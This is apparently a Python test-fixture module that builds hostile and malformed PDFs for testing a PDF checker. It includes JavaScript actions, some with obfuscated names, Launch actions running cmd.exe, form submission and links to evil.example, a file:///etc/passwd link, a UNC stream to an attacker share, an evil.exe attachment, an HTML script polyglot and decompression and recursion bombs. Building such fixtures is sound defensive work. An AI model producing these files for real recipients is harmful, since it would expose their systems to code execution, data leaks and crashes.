"""PDFs that people should not send, made when a test asks for them."""

from __future__ import annotations

import struct
import zlib
from typing import Any

import pikepdf
from good_files import add_link, document_pdf, saved_pdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String


def pdf_with_script() -> bytes:
    return saved_pdf(lambda pdf: _open_with(pdf, S=Name.JavaScript, JS=String("app.alert(1)")))


def pdf_with_script_in_names() -> bytes:
    def add(pdf: Pdf) -> None:
        script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))

    return saved_pdf(add)


def pdf_with_hidden_script() -> bytes:
    """A script inside an object stream, its name spelled with escapes."""

    def add(pdf: Pdf) -> None:
        pdf.pages[0].obj.AA = pdf.make_indirect(
            Dictionary(
                O=pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
            )
        )

    return saved_pdf(add, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def pdf_with_escaped_script() -> bytes:
    """Its names are spelled with escapes; as long as before, so that its table stays right."""
    spelled = {b"/JavaScript": b"/Java#53cript", b"/JS": b"/#4aS", b"app.alert": b"alert"}
    made = pdf_with_script()
    for plain, escaped in spelled.items():
        made = made.replace(plain, escaped)
    return made


def pdf_that_launches() -> bytes:
    return saved_pdf(lambda pdf: add_link(pdf, S=Name.Launch, F=String("cmd.exe")))


def pdf_that_launches_later() -> bytes:
    """A launch that follows a harmless jump."""
    then = Dictionary(S=Name.Launch, F=String("cmd.exe"))
    return saved_pdf(lambda pdf: add_link(pdf, S=Name.GoTo, D=String("top"), Next=Array([then])))


def pdf_that_submits() -> bytes:
    return saved_pdf(
        lambda pdf: add_link(pdf, S=Name.SubmitForm, F=String("https://evil.example/"))
    )


def pdf_that_opens_a_page() -> bytes:
    return saved_pdf(lambda pdf: _open_with(pdf, S=Name.URI, URI=String("https://evil.example/")))


def pdf_that_opens_a_page_later() -> bytes:
    """A harmless jump on opening, and a web page after it."""
    then = Dictionary(S=Name.URI, URI=String("https://evil.example/"))
    return saved_pdf(lambda pdf: _open_with(pdf, S=Name.GoTo, D=String("top"), Next=then))


def pdf_with_file_link() -> bytes:
    return saved_pdf(lambda pdf: add_link(pdf, S=Name.URI, URI=String("file:///etc/passwd")))


def pdf_with_attachment() -> bytes:
    def add(pdf: Pdf) -> None:
        pdf.attachments["evil.exe"] = b"MZ"

    return saved_pdf(add)


def pdf_with_xfa() -> bytes:
    def add(pdf: Pdf) -> None:
        pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=Stream(pdf, b"<xdp:xdp/>"))

    return saved_pdf(add)


def pdf_with_video() -> bytes:
    def add(pdf: Pdf) -> None:
        video = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]))
        pdf.pages[0].obj.Annots.append(video)

    return saved_pdf(add)


def pdf_with_outside_stream() -> bytes:
    """A page whose content lies in a file of the reader's machine."""

    def add(pdf: Pdf) -> None:
        pdf.pages[0].obj.Contents = Stream(pdf, b"", F=String("\\\\evil.example\\share"))

    return saved_pdf(add)


def encrypted_pdf(password: str = "secret") -> bytes:
    return saved_pdf(lambda pdf: None, encryption=pikepdf.Encryption(owner="owner", user=password))


def pdf_with_looping_tables() -> bytes:
    """A PDF whose table of objects names itself as the one before it."""
    made = saved_pdf(lambda pdf: None, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    at = made[: made.rindex(b"%%EOF")].split()[-1]
    return made.replace(b"trailer <<", b"trailer << /Prev " + at, 1)


def pdf_with_looping_pages() -> bytes:
    def add(pdf: Pdf) -> None:
        pdf.Root.Pages.Kids.append(pdf.Root.Pages)

    return saved_pdf(add)


def pdf_without_pages() -> bytes:
    return saved_pdf(lambda pdf: None, pages=0)


def pdf_with_long_array() -> bytes:
    def add(pdf: Pdf) -> None:
        pdf.Root.Pieces = Array([0] * 1_000_001)

    return saved_pdf(add)


def pdf_bomb() -> bytes:
    """A PDF whose one object stream unpacks to 300 MB."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(10_000_000)) for _ in range(30)) + packer.flush()
    body = b"%%PDF-1.5\n1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n"
    body = body % len(packed) + packed + b"\nendstream\nendobj\n"
    rows = struct.pack(">BIBBIBBIB", 0, 0, 0, 1, 9, 0, 2, 1, 0)
    table = b"3 0 obj\n<</Type/XRef/Size 3/W[1 4 1]/Root 2 0 R/Length %d>>stream\n" % len(rows)
    end = b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(body)
    return body + table + rows + end


def deep_pdf() -> bytes:
    """Arrays in arrays, a million deep."""
    return saved_pdf(lambda pdf: _open_with(pdf, S=Name.GoTo, D=String("x" * 2_000_000))).replace(
        b"(" + b"x" * 2_000_000 + b")", b"[" * 1_000_001 + b"]" * 1_000_001
    )


def cut_pdf() -> bytes:
    return document_pdf(3)[:-300]


def script_polyglot() -> bytes:
    """A good PDF with a web page behind it."""
    return document_pdf() + b"\n<script>alert(document.domain)</script>\n"


def _open_with(pdf: Pdf, **action: Any) -> None:
    pdf.Root.OpenAction = Dictionary(**action)


def pdf_of_one_page_many_times() -> bytes:
    """Small as it comes: its tree of pages names the same page a thousand times."""

    def add(pdf: Pdf) -> None:
        page = pdf.pages[0].obj
        page.Contents = pdf.make_stream(bytes(2000))
        pdf.Root.Pages.Kids = Array([page] * 1000)
        pdf.Root.Pages.Count = 1000

    return saved_pdf(add)


def pdf_packed_twice() -> bytes:
    """A page of spaces whose description is packed, and packed once more."""

    def add(pdf: Pdf) -> None:
        packed = zlib.compress(zlib.compress(b" " * 20_000_000))
        filters = Array([Name.FlateDecode, Name.FlateDecode])
        pdf.pages[0].obj.Contents = pdf.make_stream(packed, Filter=filters)

    return saved_pdf(add, compress_streams=False)


def pdf_with_postscript() -> bytes:
    def add(pdf: Pdf) -> None:
        script = pdf.make_stream(b"quit", Subtype=Name.Form, Subtype2=Name.PS)
        pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(P=script))

    return saved_pdf(add)
